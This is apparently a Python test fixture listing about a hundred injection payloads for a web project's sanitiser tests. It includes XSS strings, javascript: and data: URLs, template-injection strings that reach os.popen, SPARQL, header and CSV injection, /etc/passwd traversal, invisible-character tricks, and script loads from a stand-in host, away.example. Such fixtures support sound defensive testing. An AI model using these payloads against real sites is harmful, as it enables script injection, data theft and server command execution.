"""A hundred strings that have made a page run, fetch or show what its author did not write.

Each would set ``window.__pwned``, open a dialog or call another host where a page takes it for
markup, script, an address or a template. ``HIDDEN`` of them hold characters that no reader sees,
which the rules of a project refuse; a store that somebody else wrote may hold them all the same.
"""

from __future__ import annotations

from magkg.claims.form import hidden

_RUN = "window.__pwned=1;alert(1)"
_AWAY = "https://away.example"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt >{_RUN}</sCrIpT\n>",
    f"<script/x>{_RUN}</script>",
    f'<script src="{_AWAY}/x.js"></script>',
    f"<script src=//away.example/x.js></script>",  # noqa: F541
    f'<script type="module">{_RUN}</script>',
    f'<script type="importmap">{{"imports":{{"a":"{_AWAY}/a.js"}}}}</script>',
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</select><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--<script>--><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}",
    f"<template><script>{_RUN}</script></template>",
)
HANDLERS = (
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}>",
    f"<img/src/onerror={_RUN}>",
    f"<img src='x' ONERROR='{_RUN}'",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video src=x onerror={_RUN}>",
    f"<audio src onloadstart={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<b onpointerover={_RUN} style=position:fixed;inset:0>x</b>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}></b>",
    f"<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",  # noqa: F541
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<form><button formaction=javascript:{_RUN}>x</form>",
    f"<isindex action=javascript:{_RUN} type=image>",
)
FOREIGN = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg><style>{{font-family:'<img/src=x onerror={_RUN}>'",
    f"</svg><img src=x onerror={_RUN}>",
    f"</text></svg><script>{_RUN}</script>",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"` onmouseover={_RUN} `",
    f'"/><img src=x onerror={_RUN}>',
    f'"style="background:url({_AWAY}/bg)"',
    "&quot; onmouseover=&quot;alert(1)&quot;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"javascript://example.org/%0a{_RUN}",
    f"javascript&colon;{_RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//away.example/x",
    "https:away.example",
    "/\\away.example/x",
)
DOCUMENTS = (
    f'<base href="{_AWAY}/">',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    f'<link rel="stylesheet" href="{_AWAY}/x.css">',
    f'<link rel="prefetch" href="{_AWAY}/x">',
    f"<style>@import url({_AWAY}/x.css);</style>",
    f"<p style=\"background:url('{_AWAY}/x')\">x</p>",
    f"url({_AWAY}/css)",
    f"<img src={_AWAY}/x.png>",
    f"<form action={_AWAY}/><input name=q><button autofocus>x</button></form>",
    "<form id=main></form><a id=network-data></a><a id=editor-data href=x></a>",
    "<img name=getElementById><img name=cookie>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{7*7}}{{ 7*'7' }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    f"${{7*7}}#{{7*7}}<%= 7*7 %>`${{{_RUN}}}`",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{0.__class__} %s %n %(x)s",
)
DATA = (
    f'"}};{_RUN};//',
    f"'-{_RUN}-'",
    f'\\"-{_RUN}//',
    '{"__proto__":{"polluted":1}}',
    f'"}}]}}</script><script>{_RUN}</script>',
    f"[x](javascript:{_RUN}) ![x]({_AWAY}/md.png) <{_AWAY}/auto>",
    '" . <urn:a> <urn:b> "injected" . #',
    "'''} INSERT DATA { <urn:a> <urn:b> <urn:c> } #",
    "> } SERVICE <https://away.example/sparql> { ?s ?p ?o #",
    '=HYPERLINK("https://away.example","x")',
    "\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>",
    "../../../../etc/passwd",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "x" * 2000 + f"<img src=x onerror={_RUN}>",
    "<b>" * 300 + "deep",
    "Z\u0321\u0351\u0356a\u0334\u0349\u0320l\u0337\u0330g\u0336\u032eo" * 8,
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65 \uff1cscript\uff1e",
)
UNSEEN = (
    "safe\u202etxt.exe",
    "\u2066\u2067denies\u2069 affirms\u2069",
    "a\u200bb\u2060c\ufeffd",
    f'"}};\u2028{_RUN}//\u2029',
    f"<scr\u0000ipt>{_RUN}</scr\u0000ipt>",
    f"<img\u000bsrc=x\u000conerror={_RUN}>",
    "\u001b[2J\u0007\u0085\U000e0041tag",
)

STRINGS = (
    *SCRIPTS,
    *HANDLERS,
    *FOREIGN,
    *ATTRIBUTES,
    *ADDRESSES,
    *DOCUMENTS,
    *TEMPLATES,
    *DATA,
    *UNSEEN,
)
HIDDEN = tuple(each for each in STRINGS if hidden(each))
